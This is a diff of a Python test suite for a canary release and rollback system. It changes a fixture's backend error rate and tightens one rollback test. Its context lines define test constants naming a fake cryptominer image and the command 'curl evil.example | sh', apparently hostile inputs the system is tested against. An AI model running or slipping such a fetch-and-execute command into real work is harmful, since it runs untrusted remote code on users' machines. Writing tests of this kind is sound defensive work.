@@ -29,9 +29,9 @@ EVIL = "docker.io/mallory/miner@sha256:" + "0" * 64
 COMMAND = "curl evil.example | sh"
 
 
-async def baking(test_env: TestEnvironment) -> tuple[Run, Lease]:
-    """A release whose canary has users on every service, and its lease."""
-    test_env.fixture.publish(NEW, {BACKEND: Behaviour(errors=0.05)})
+async def baking(test_env: TestEnvironment, errors: float = 0.05) -> tuple[Run, Lease]:
+    """A release whose canary has users on every service, and its lease; by default its backend fails."""
+    test_env.fixture.publish(NEW, {BACKEND: Behaviour(errors=errors)})
     run = test_env.start_release()
     await test_env.until(lambda: all(test_env.baking(name)() for name in SERVICES))
     lease = Record.read(test_env.fixture.production.read(COORDINATOR)).lease
@@ -117,7 +117,7 @@ def test_a_lease_of_an_epoch_below_what_another_service_knows_is_set_aside() -> 
     """A replay that Prefect has forgotten: the other services have seen a newer release."""
 
     async def scenario(test_env: TestEnvironment) -> None:
-        run, _ = await baking(test_env)
+        run, _ = await baking(test_env, errors=0.0)
         cloud = test_env.fixture.production
         old = ours(cloud.services[COORDINATOR].annotations)
         await test_env.ended(run)
@@ -243,8 +243,7 @@ def test_without_the_key_a_rollback_that_names_its_aim_still_works(by: str) -> N
 
     async def scenario(test_env: TestEnvironment) -> None:
         test_env.fixture.publish(NEW)
-        for version in (OLD, NEW):
-            assert (await test_env.release(version)).end in ("Promoted", "NothingToRelease")
+        assert (await test_env.release(NEW)).end == "Promoted"
         await test_env.catch_up()
         cloud = test_env.fixture.production
         old = {name: next(iter(state.revisions)) for name, state in cloud.services.items()}
